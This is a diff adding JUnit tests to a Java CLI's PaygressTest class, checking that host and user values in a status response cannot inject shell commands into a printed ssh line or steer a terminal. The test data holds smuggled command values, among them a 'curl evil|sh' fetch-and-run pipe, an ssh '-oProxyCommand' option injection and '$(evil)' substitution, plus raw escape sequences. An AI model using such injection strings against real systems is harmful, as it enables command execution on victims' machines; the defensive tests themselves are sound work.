@@ -11,6 +11,7 @@ import java.util.List;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.EnumSource;
 import org.paygress.cashu.token.PaymentRequest;
 import org.paygress.consumer.cli.Output;
@@ -20,6 +21,7 @@ import org.paygress.protocol.message.ErrorReply;
 import org.paygress.protocol.message.ErrorType;
 import org.paygress.protocol.message.SpawnRequest;
 import org.paygress.protocol.message.StatusRequest;
+import org.paygress.protocol.message.StatusResponse;
 import org.paygress.protocol.message.TemplatePort;
 import org.paygress.protocol.message.TopUpRequest;
 import org.paygress.protocol.message.TopUpResponse;
@@ -178,6 +180,42 @@ class PaygressTest extends CommandLineTest {
     assertThat(run.exit()).as(run.err()).isZero();
     assertThat(provider.kinds()).containsExactly(DmKind.NIP17);
     assertThat(run.out()).contains("1000, Running");
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "x; curl evil|sh,user",
+    "-oProxyCommand=evil,user",
+    "127.0.0.1,user; evil",
+    "127.0.0.1,$(evil)",
+    "'',user"
+  })
+  void a_line_for_the_shell_is_made_of_names_only(String host, String user) {
+    provider.answer(
+        _ -> new StatusResponse("1000", "Running", EXPIRY, 60, 1000, 1024, host, 31_000, user));
+    Run run = ask("status", provider.npub());
+    assertThat(run.exit()).isZero();
+    assertThat(run.out()).contains("names a host or a user that cannot be one");
+    assertThat(run.out()).doesNotContain("ssh -p", "evil");
+  }
+
+  @ParameterizedTest
+  @CsvSource({"box.example.org", "192.0.2.7", "2001:db8::7"})
+  void a_line_for_the_shell_names_the_host(String host) {
+    provider.answer(
+        _ -> new StatusResponse("1000", "Running", EXPIRY, 60, 1000, 1024, host, 31_000, "user"));
+    assertThat(ask("status", provider.npub()).out()).contains("ssh -p 31000 user@" + host);
+  }
+
+  @Test
+  void objects_for_programs_steer_no_terminal_either() {
+    provider.answer(
+        _ ->
+            new StatusResponse(
+                "10\u009b31m00", "Run\u001bning", EXPIRY, 60, 1000, 1024, "h", 31_000, "user"));
+    assertThat(ask("status", provider.npub(), "--json").out())
+        .contains("10\\u009b31m00", "Run\\u001Bning")
+        .doesNotContain("\u009b", "\u001b");
   }
 
   @Test
